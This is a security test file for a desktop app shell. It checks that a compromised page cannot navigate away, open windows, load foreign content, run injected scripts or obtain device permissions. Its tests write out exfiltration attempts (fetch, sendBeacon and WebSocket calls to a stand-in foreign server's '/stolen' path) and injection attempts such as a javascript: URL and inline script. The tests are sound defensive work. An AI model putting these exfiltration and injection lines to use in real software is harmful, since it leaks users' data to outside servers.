/** What a page must not get out of its shell, tried from a page that has fallen into foreign hands. */
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type LaunchedDesk, launchDesk } from '../launch/launch-desk.ts'
import { expect, test } from './desk-test.ts'
import { type ForeignServer, startForeignServer } from './foreign-server.ts'

let folder: string
let desk: LaunchedDesk
let foreign: ForeignServer

test.beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'shell-attacks-'))
  foreign = await startForeignServer()
  // Nothing listens there, so the window shows that its database is away, which is page enough.
  desk = await launchDesk({ dataFolder: folder, databaseUrl: 'postgres://desk@127.0.0.1:1/venue' })
  await desk.page.evaluate(() => Reflect.set(window, 'isSamePage', true))
})

test.afterAll(async () => {
  await desk.close()
  await foreign.close()
  await rm(folder, { recursive: true, force: true })
})

/** Whatever was tried: the page is where it was, alone, and the other server heard nothing. */
test.afterEach(async () => {
  expect(await desk.page.evaluate(() => Reflect.get(window, 'isSamePage'))).toBe(true)
  await expect.poll(() => desk.page.context().pages().length).toBe(1)
  expect(foreign.takeRequests()).toEqual([])
})

/** The shell says in its log what it refused; waits for that. */
function refusals(message: string): number {
  return desk.output().split(message).length - 1
}

async function refusedOnce(message: string, attack: () => Promise<unknown>): Promise<void> {
  const before = refusals(message)
  await attack()
  await expect.poll(() => refusals(message)).toBeGreaterThan(before)
}

async function clickLink(address: string, target = ''): Promise<void> {
  await desk.page.evaluate(
    ([href, frame]) => {
      const link = document.createElement('a')
      link.href = href
      link.target = frame
      document.body.append(link)
      link.click()
      link.remove()
    },
    [address, target] as const,
  )
}

function page<Answer>(attack: (origin: string) => Answer) {
  return desk.page.evaluate(attack, foreign.origin)
}

test.describe('leaving the page', () => {
  const refused = 'refused to leave the page'

  test('by a link whose query names our own origin', () =>
    refusedOnce(refused, () => clickLink(`${foreign.origin}/?next=app://venue/`)))

  test('by a link that would be redirected to our own origin', () =>
    refusedOnce(refused, () => clickLink(`${foreign.origin}/redirect`)))

  test('by a script', () =>
    refusedOnce(refused, () =>
      page((origin) => {
        location.href = `${origin}/stolen`
      }),
    ))

  test('by a link to a javascript: address', async () => {
    await clickLink('javascript:window.isSamePage=false')
    expect(await page(() => Reflect.get(window, 'isSamePage'))).toBe(true)
  })

  test('by posting a form', async () => {
    await page((origin) => {
      const form = document.createElement('form')
      form.action = `${origin}/form`
      form.method = 'post'
      document.body.append(form)
      form.submit()
      form.remove()
    })
  })
})

test.describe('opening windows', () => {
  const refused = 'refused to open an address'

  test('window.open of a plain web address opens nothing', () =>
    refusedOnce(refused, () => page((origin) => void window.open(`${origin}/popup`))))

  test('whoever asks for a window gets none, and no target is left of it', async () => {
    const opened = await page((origin) => window.open(`${origin}/popup`) === null)
    expect(opened).toBe(true)
    const session = await desk.page.context().newCDPSession(desk.page)
    const { targetInfos } = await session.send('Target.getTargets')
    await session.detach()
    expect(targetInfos.filter(({ type }) => type === 'page')).toHaveLength(1)
  })

  test('a link for a new window opens nothing', () =>
    refusedOnce(refused, () => clickLink(`${foreign.origin}/popup`, '_blank')))

  test('a foreign https address opens nothing', () =>
    refusedOnce(refused, () => clickLink('https://help.invalid/booking?x=1', '_blank')))

  test('a prepared WhatsApp message goes to the system’s browser, and opens no window here', async () => {
    const address = 'https://wa.me/628125551043?text=Hello'
    await clickLink(address, '_blank')
    await expect.poll(() => desk.openedLinks()).toEqual([address])
  })
})

test.describe('bringing foreign content in', () => {
  test('a foreign page in a frame is not loaded', async () => {
    await page(async (origin) => {
      const frame = document.createElement('iframe')
      frame.src = `${origin}/frame`
      const isSettled = new Promise((resolve) => frame.addEventListener('load', resolve))
      document.body.append(frame)
      await isSettled
      frame.remove()
    })
  })

  test('a script written into the page does not run', async () => {
    const ran = await page(() => {
      const script = document.createElement('script')
      script.textContent = 'window.ranInline = true'
      document.body.append(script)
      script.remove()
      return Reflect.get(window, 'ranInline')
    })
    expect(ran).toBeUndefined()
  })

  test('an event handler written as text does not run', async () => {
    const ran = await page(() => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.ranHandler = true')
      document.body.append(button)
      button.click()
      button.remove()
      return Reflect.get(window, 'ranHandler')
    })
    expect(ran).toBeUndefined()
  })

  test('a text is not made into a function', async () => {
    const outcome = await page(
      () =>
        new Promise((resolve) =>
          // Later, since the tool that drives the page exempts what it runs at once from the page's policy.
          setTimeout(() => {
            try {
              resolve(Reflect.construct(Function, ['return "ran"'])())
            } catch (error) {
              resolve(error instanceof EvalError ? 'refused' : String(error))
            }
          }),
        ),
    )
    expect(outcome).toBe('refused')
  })

  for (const tag of ['script', 'img']) {
    test(`a foreign ${tag} is not loaded`, async () => {
      const outcome = await desk.page.evaluate(
        ([name, origin]) =>
          new Promise((resolve) => {
            const element = document.createElement(name)
            element.addEventListener('load', () => resolve('loaded'))
            element.addEventListener('error', () => resolve('refused'))
            element.setAttribute('src', `${origin}/content`)
            document.body.append(element)
          }),
        [tag, foreign.origin] as const,
      )
      expect(outcome).toBe('refused')
    })
  }

  test('a foreign stylesheet is not loaded', async () => {
    const outcome = await page(
      (origin) =>
        new Promise((resolve) => {
          const link = document.createElement('link')
          link.rel = 'stylesheet'
          link.addEventListener('load', () => resolve('loaded'))
          link.addEventListener('error', () => resolve('refused'))
          link.href = `${origin}/style.css`
          document.head.append(link)
        }),
    )
    expect(outcome).toBe('refused')
  })
})

test.describe('taking data out', () => {
  test('fetch reaches no other server', async () => {
    expect(await page((origin) => fetch(`${origin}/stolen`).then(String, () => 'refused'))).toBe('refused')
  })

  test('a beacon reaches no other server', async () => {
    await page((origin) => navigator.sendBeacon(`${origin}/stolen`, 'names'))
    expect(await page(() => fetch('/').then((answer) => answer.status))).toBe(200)
  })

  test('a web socket reaches no other server', async () => {
    const outcome = await page(
      (origin) =>
        new Promise((resolve) => {
          try {
            const socket = new WebSocket(origin.replace('http', 'ws'))
            socket.addEventListener('open', () => resolve('open'))
            socket.addEventListener('error', () => resolve('refused'))
          } catch {
            resolve('refused')
          }
        }),
    )
    expect(outcome).toBe('refused')
  })
})

test.describe('asking for permissions', () => {
  test('notifications are refused without asking anybody', async () => {
    expect(await page(() => Notification.requestPermission())).toBe('denied')
  })

  test('camera and microphone are refused', async () => {
    const outcome = await page(() =>
      navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(
        () => 'granted',
        (error: DOMException) => error.name,
      ),
    )
    expect(['NotAllowedError', 'NotFoundError']).toContain(outcome)
  })

  test('the place of the PC is refused', async () => {
    const outcome = await page(
      () =>
        new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve('granted'),
            (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : 'unavailable'),
          ),
        ),
    )
    expect(outcome).toBe('denied')
  })
})
